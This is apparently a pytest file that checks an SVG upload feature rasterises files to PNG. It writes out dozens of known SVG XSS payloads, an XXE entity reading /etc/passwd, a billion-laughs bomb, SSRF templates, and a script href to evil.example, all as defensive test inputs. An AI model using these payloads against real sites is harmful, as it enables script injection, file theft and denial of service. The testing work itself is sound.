"""Issue 14, finding 3: an SVG upload is kept as the PNG picture it draws (CairoSVG), never as
SVG, so no spelling of active content can survive; it can load nothing from outside itself.

The corpus: the issue's four (an ``onload=`` attribute, a namespaced ``<s:script>``,
``javascript&#58;``, an SVG 2 ``href="data:…"``) and the known SVG XSS payloads of the public
lists (OWASP's filter evasion cheat sheet, PortSwigger's XSS cheat sheet, html5sec.org),
written out here, with XXE, entity expansion and SSRF attempts.
"""

import base64
import http.server
import io
import threading

import pytest
from PIL import Image

from accounts.uploads import FileRefused
from artifacts.checks import rasterize_svg
from artifacts.models import Artifact

from .conftest import upload

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
INNER = base64.b64encode(
    f'<svg {NS} width="8" height="8" onload="alert(2)"><script>alert(3)</script>'
    '<rect width="8" height="8"/></svg>'.encode()
).decode()


def svg(body: str, attrs: str = "") -> bytes:
    return f'<svg {NS} width="40" height="30" {attrs}>{body}</svg>'.encode()


THE_ISSUES_FOUR = {
    "onload attribute": svg('<rect width="40" height="30"/>', 'onload="alert(document.cookie)"'),
    "namespaced script": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" '
        b'width="40" height="30"><s:script>alert(1)</s:script><s:rect width="9" height="9"/>'
        b"</svg>"
    ),
    "javascript&#58;": svg(
        '<a xlink:href="javascript&#58;alert(1)"><rect width="40" height="30"/></a>'
    ),
    "SVG 2 href data:": svg(
        f'<image href="data:image/svg+xml;base64,{INNER}" width="8" height="8"/>'
    ),
}

KNOWN_PAYLOADS = {
    "script element": svg("<script>alert(1)</script>"),
    "script CDATA": svg("<script><![CDATA[alert(1)]]></script>"),
    "script xlink:href data": svg('<script xlink:href="data:,alert(1)"/>'),
    "script href external": svg('<script href="https://evil.example/x.js"/>'),
    "onload on element": svg('<rect width="9" height="9" onload="alert(1)"/>'),
    "onmouseover": svg('<rect width="9" height="9" onmouseover="alert(1)"/>'),
    "entity-encoded handler name": svg('<rect width="9" height="9" on&#x6c;oad="alert(1)"/>'),
    "javascript colon entity": svg('<a href="javascript&colon;alert(1)"><text y="9">x</text></a>'),
    "decimal-encoded javascript": svg(
        '<a href="&#106;&#97;&#118;&#97;script:alert(1)"><text y="9">x</text></a>'
    ),
    "tab in javascript": svg('<a href="java\tscript:alert(1)"><text y="9">x</text></a>'),
    "animate href": svg(
        '<a><rect width="40" height="30"/><animate attributeName="href" '
        'values="javascript:alert(1)"/></a>'
    ),
    "set onmouseover": svg('<set attributeName="onmouseover" to="alert(1)"/>'),
    "animate onbegin": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "foreignObject iframe": svg(
        '<foreignObject width="40" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="javascript:alert(1)"/></foreignObject>'
    ),
    "foreignObject html script": svg(
        '<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml">'
        "<script>alert(1)</script></body></foreignObject>"
    ),
    "use data svg": svg(f'<use href="data:image/svg+xml;base64,{INNER}#x"/>'),
    "feImage javascript": svg(
        '<filter id="f"><feImage href="javascript:alert(1)"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
    "xml-events handler": svg(
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'
    ),
    "style with expression": svg(
        "<style>rect{background:url(javascript:alert(1))}</style><rect width='9' height='9'/>"
    ),
    "iframe srcdoc in foreignObject": svg(
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>'
    ),
    "HTML-style unclosed": b"<svg onload=alert(1)>",
    "XXE file": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + svg('<text y="20">&xxe;</text>')
    ),
    "billion laughs": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' + svg('<text y="20">&d;&d;&d;</text>')
    ),
    "enormous canvas": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="200000" height="200000"><rect '
        b'width="9" height="9"/></svg>'
    ),
}

TELL_TALES = [b"script", b"alert", b"javascript", b"onload", b"<svg", b"passwd", b"evil"]


class Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A local HTTP server an SVG might try to reach: it must see no request."""
    Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def drawn_or_refused(name: str, data: bytes) -> bytes | None:
    try:
        png = rasterize_svg(data, name=name)
    except FileRefused:
        return None
    assert png.startswith(b"\x89PNG\r\n\x1a\n"), name
    with Image.open(io.BytesIO(png)) as picture:
        picture.verify()
    return png


@pytest.mark.parametrize(
    ("label", "data"), [*THE_ISSUES_FOUR.items(), *KNOWN_PAYLOADS.items()], ids=str
)
def test_no_payload_survives_as_anything_but_pixels(label, data):
    png = drawn_or_refused(label, data)
    if png is not None:
        assert not [t for t in TELL_TALES if t in png.lower()], label


def test_the_issues_four_are_drawn_as_pictures():
    for label, data in THE_ISSUES_FOUR.items():
        assert drawn_or_refused(label, data) is not None, label


def test_entities_are_not_expanded_and_the_canvas_is_bounded():
    assert drawn_or_refused("xxe", KNOWN_PAYLOADS["XXE file"]) is None
    assert drawn_or_refused("laughs", KNOWN_PAYLOADS["billion laughs"]) is None
    assert drawn_or_refused("big", KNOWN_PAYLOADS["enormous canvas"]) is None


@pytest.mark.parametrize(
    "template",
    [
        '<image href="{url}/image.png" width="9" height="9"/>',
        '<image xlink:href="{url}/xlink.png" width="9" height="9"/>',
        '<use href="{url}/use.svg#x"/>',
        "<style>@import url({url}/style.css);</style>",
        '<rect width="9" height="9" fill="url({url}/paint.svg#p)"/>',
        '<filter id="f"><feImage href="{url}/fe.png"/></filter><rect filter="url(#f)"/>',
        '<image href="file:///etc/passwd" width="9" height="9"/>',
    ],
)
def test_a_drawing_reaches_nothing_outside_itself(listener, template):
    drawn_or_refused("remote", svg(template.format(url=listener)))
    # Nor does a drawing it carries inside itself.
    inner = base64.b64encode(svg(template.format(url=listener))).decode()
    drawn_or_refused("nested", svg(f'<image href="data:image/svg+xml;base64,{inner}"/>'))
    assert Recorder.hits == []


def test_an_uploaded_svg_is_kept_as_a_png(
    educator_client, submission, s3_storage, django_capture_on_commit_callbacks
):
    for label, data in THE_ISSUES_FOUR.items():
        artifact = upload(
            educator_client,
            submission,
            "chart.svg",
            data,
            capture=django_capture_on_commit_callbacks,
        )
        assert artifact.status == Artifact.Status.ACCEPTED, (label, artifact.refusal_reason)
        assert artifact.content_type == "image/png"
        assert artifact.storage_key.endswith("/chart.png")
        stored = s3_storage["client"].get_object(
            Bucket=s3_storage["bucket"], Key=artifact.storage_key
        )
        body = stored["Body"].read()
        assert body.startswith(b"\x89PNG") and stored["ContentType"] == "image/png"
        assert not [t for t in TELL_TALES if t in body.lower()], label


def test_a_drawing_too_large_is_refused_as_the_svg_it_is():
    # Named like a PNG, it is still told apart as a drawing, with what to do instead.
    with pytest.raises(FileRefused) as refused:
        rasterize_svg(KNOWN_PAYLOADS["enormous canvas"], name="poster.png")
    assert "“poster.png” is an SVG drawing of a picture larger than 16 megapixels" in str(
        refused.value
    )
    assert "as PNG or PDF" in str(refused.value)
